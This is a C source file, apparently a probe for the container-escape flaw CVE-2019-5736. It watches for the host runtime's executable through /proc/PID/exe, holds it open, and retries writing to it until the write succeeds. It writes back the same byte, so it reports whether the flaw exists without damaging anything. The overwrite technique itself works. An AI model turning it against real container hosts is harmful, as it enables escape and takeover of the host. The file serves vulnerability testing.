// Gets hold of the program of every other process of the container, /proc/PID/exe, and tries to write to it, while it runs and once it has
// ended (CVE-2019-5736). A line for each: "hidden" where it cannot be opened, "held", then "refused" or, in the end, "WRITTEN". What is
// written is what stood there.
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <unistd.h>

static int IsRuntime(int fd) {
  struct stat busybox, other;
  return stat("/bin/busybox", &busybox) == 0 && fstat(fd, &other) == 0 && other.st_ino != busybox.st_ino;
}

// 0, or why not.
static int Write(int held) {
  char path[64], byte;
  snprintf(path, sizeof path, "/proc/self/fd/%d", held);
  int fd = open(path, O_WRONLY | O_CLOEXEC);
  if (fd < 0) return errno;
  int err = pread(held, &byte, 1, 0) == 1 && pwrite(fd, &byte, 1, 0) == 1 ? 0 : errno;
  close(fd);
  return err;
}

static void Attack(const char *pid) {
  char path[300];
  snprintf(path, sizeof path, "/proc/%s/exe", pid);
  int held = open(path, O_RDONLY | O_CLOEXEC);
  if (held < 0 && (errno == EACCES || errno == EPERM)) puts("hidden");
  if (held < 0) return;
  if (IsRuntime(held)) {
    puts("held");
    int err;
    // An ordinary file that somebody runs is ETXTBSY until the last of them has ended.
    do err = Write(held);
    while (err == ETXTBSY || (err != 0 && access(path, F_OK) == 0));
    puts(err == 0 ? "WRITTEN" : "refused");
  }
  close(held);
}

int main(void) {
  setvbuf(stdout, NULL, _IOLBF, 0);
  puts("watching");
  for (;;) {
    DIR *processes = opendir("/proc");
    if (processes == NULL) return 70;
    for (struct dirent *entry; (entry = readdir(processes)) != NULL;) {
      if (atoi(entry->d_name) > 1) Attack(entry->d_name);
    }
    closedir(processes);
  }
}
